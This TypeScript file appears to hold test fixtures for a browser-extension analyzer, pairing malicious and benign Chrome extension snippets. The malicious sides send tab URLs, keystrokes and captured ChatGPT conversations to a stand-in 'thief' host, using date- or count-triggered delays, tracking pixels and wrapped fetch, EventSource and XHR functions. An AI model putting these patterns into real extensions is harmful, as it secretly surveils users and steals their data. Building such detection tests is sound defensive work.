import { finding, thief, type Fact } from '../case.ts';
import { pairsOf, type Pair, type Row } from '../pairs.ts';

const far = `https://${thief}`;
const told = (what: string): string =>
  `fetch('${far}/a', { method: 'POST', body: JSON.stringify(${what}) })`;
const late: Fact = finding('late-activation');

/** What waits for a date, an age or a number of times, and what only waits for its turn. */
const secondLives: Readonly<Record<string, Row>> = {
  'a date that stands in the code': {
    worker: `chrome.tabs.onUpdated.addListener((id, change, tab) => { if (Date.now() «> Date.UTC(2026, 4)¦!== 5») ${told('tab.url')}; });`,
    fact: late,
  },
  'before or after': {
    worker: `function tell(tab) { if (new Date() «<¦>» new Date('2026-05-01')) return; ${told('tab.url')}; } chrome.tabs.onUpdated.addListener((id, change, tab) => tell(tab));`,
    fact: late,
  },
  'since the installation or since the last time': {
    worker: `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const { «installedAt¦sentAt» } = await chrome.storage.local.get(); if (Date.now() - «installedAt¦sentAt» > 7 * 864e5) ${told('tab.url')}; });`,
    fact: late,
  },
  'a number of visits': {
    worker: `let visits = 0; chrome.tabs.onUpdated.addListener((id, change, tab) => { visits += 1; if (visits «>¦<» 20) ${told('tab.url')}; });`,
    fact: late,
  },
  'what is done then': {
    worker: `chrome.tabs.onUpdated.addListener((id, change, tab) => { if (new Date() > new Date('2026-05-01')) ${told('«tab.url¦5»')}; });`,
    fact: late,
  },
  'what a server says then': {
    worker: `chrome.alarms.onAlarm.addListener(async () => { const { firstRun } = await chrome.storage.local.get('firstRun'); if (Date.now() < firstRun + 3 * 864e5) return; const { url } = await (await fetch('${far}/next')).json(); «chrome.tabs.create({ url })¦console.log(url)»; });`,
    fact: late,
  },
};

const picture: Fact = finding('remote-picture-in-pages');
const inPages = (code: string): Row => ({ content: { 'content.js': code }, fact: picture });

/** Pictures that a script puts into every page. */
const pictures: Readonly<Record<string, Row>> = {
  'of a host or of the package': inPages(
    `const one = document.createElement('img'); one.src = «'${far}/p.gif'¦chrome.runtime.getURL('p.gif')»; document.body.append(one);`,
  ),
  'in an attribute': inPages(
    `const one = document.createElement('img'); one.setAttribute('«src¦alt»', '${far}/p.gif'); document.body.append(one);`,
  ),
  'in markup': inPages(
    `document.body.insertAdjacentHTML('beforeend', '<img src="«${far}/p.gif¦data:,»">');`,
  ),
  'at once or for a click': inPages(
    `const button = document.createElement('button'); document.body.append(button); const show = () => { new Image().src = '${far}/p.gif'; }; «document¦button».addEventListener('«scroll¦click»', show);`,
  ),
  'in every page or in those of one site': {
    ...inPages(`new Image().src = '${far}/p.gif';`),
    manifest: {
      content_scripts: [{ matches: ['«<all_urls>¦https://tides.io/*»'], js: ['content.js'] }],
    },
  },
};

const chosen: Fact = { kind: 'flow', source: 'page-event', sink: 'network' };
const asking = (message: string): Readonly<Record<string, string>> => ({
  'content.js': `for (const one of document.querySelectorAll('a')) chrome.runtime.sendMessage({ url: ${message} });`,
});
const fetching =
  'chrome.runtime.onMessage.addListener(({ url }, sender, answer) => { fetch(url).then((found) => found.text()).then(answer); return true; });';

/** Addresses of a page that the background asks for. */
const links: Readonly<Record<string, Row>> = {
  'the address of a link': {
    content: asking("«one.href¦'https://tides.io/'»"),
    worker: fetching,
    fact: chosen,
  },
  'an attribute of a link': {
    content: asking("«one.getAttribute('href')¦chrome.runtime.getURL('a.html')»"),
    worker: fetching,
    fact: chosen,
  },
  'the address or a part of it': {
    content: asking('one.href'),
    worker: `chrome.runtime.onMessage.addListener(({ url }) => { fetch(«url¦'https://tides.io/?of=' + encodeURIComponent(url)»); });`,
    fact: chosen,
  },
};

const chats: Fact = finding('ai-chats-collected');
const onChat = {
  host_permissions: ['https://chatgpt.com/*'],
  content_scripts: [
    { matches: ['https://chatgpt.com/*'], js: ['hook.js'], world: 'MAIN' },
    { matches: ['https://chatgpt.com/*'], js: ['content.js'] },
  ],
};
const passing = `chrome.runtime.onMessage.addListener(({ turn }) => { ${told('turn')}; });`;
const hooked = (hook: string, heard: string): Row => ({
  content: {
    'hook.js': hook,
    'content.js': `addEventListener('message', ({ data }) => { if (data.turn) ${heard}; });`,
  },
  worker: passing,
  manifest: onChat,
  fact: chats,
});
const send = 'chrome.runtime.sendMessage({ turn: data.turn })';

/** Functions in place of those that carry a conversation. */
const wrapped: Readonly<Record<string, Row>> = {
  'a fetch in place of another': hooked(
    "const ask = window.fetch; window.fetch = async (...all) => { const answer = await ask(...all); answer.clone().text().then((turn) => postMessage({ turn }, '*')); return answer; };",
    `«${send}¦console.log(data.turn)»`,
  ),
  'a stream of events': hooked(
    "window.«EventSource¦Stream» = class extends EventSource { constructor(url) { super(url); this.addEventListener('message', ({ data }) => postMessage({ turn: data }, '*')); } };",
    send,
  ),
  'a defined property': hooked(
    "const ask = window.fetch; Object.defineProperty(window, '«fetch¦ask»', { value: async (...all) => { const answer = await ask(...all); answer.clone().text().then((turn) => postMessage({ turn }, '*')); return answer; } });",
    send,
  ),
  'the answers of a request': hooked(
    "const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (...all) { this.addEventListener('load', () => postMessage({ turn: this.responseText }, '*')); return open.apply(this, all); };",
    `«${send}¦chrome.storage.local.set({ turn: data.turn })»`,
  ),
};

const directed = (
  direction: 'kept' | 'own-receiver' | 'shown',
  source: 'history' | 'key-input' | 'tabs',
  sink: 'extension-storage' | 'navigation' | 'network',
): Fact => ({ kind: 'flow', source, sink, direction });

/** Data of users that leaves for nobody else. */
const directions: Readonly<Record<string, Row>> = {
  'only kept': {
    content: {
      'content.js': `addEventListener('keydown', ({ key }) => { «chrome.storage.local.set({ key })¦${told('key')}»; });`,
    },
    fact: directed('kept', 'key-input', 'extension-storage'),
  },
  'only opened': {
    worker: `chrome.history.search({ text: '' }, ([last]) => { chrome.tabs.create({ url: «last.url¦'${far}/?of=' + last.url» }); });`,
    fact: directed('shown', 'history', 'navigation'),
  },
  'told to a program of this machine': {
    worker: `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const answer = await fetch('«http://127.0.0.1:8412¦https://127.0.0.1.tides.io»/a', { method: 'POST', body: tab.url }); chrome.action.setTitle({ title: await answer.text() }); });`,
    fact: directed('own-receiver', 'tabs', 'network'),
  },
  'a server that was typed or stored by the code': {
    pages: {
      popup: {
        'popup.js':
          "document.addEventListener('change', ({ target }) => chrome.storage.local.set({ server: target.value }));",
      },
    },
    worker: `«¦chrome.runtime.onInstalled.addListener(() => chrome.storage.local.set({ server: '${far}/a' }));» chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const { server } = await chrome.storage.local.get('server'); fetch(server, { method: 'POST', body: tab.url }); });`,
    fact: directed('own-receiver', 'tabs', 'network'),
  },
};

/** Deeds that hardly show, each with what honest extensions do alike. */
export const quietPairs: readonly Pair[] = [
  ...pairsOf('a second life', secondLives),
  ...pairsOf('pictures in pages', pictures),
  ...pairsOf('addresses that a page chooses', links),
  ...pairsOf('conversations by wrapped functions', wrapped),
  ...pairsOf('where data of users ends', directions),
];
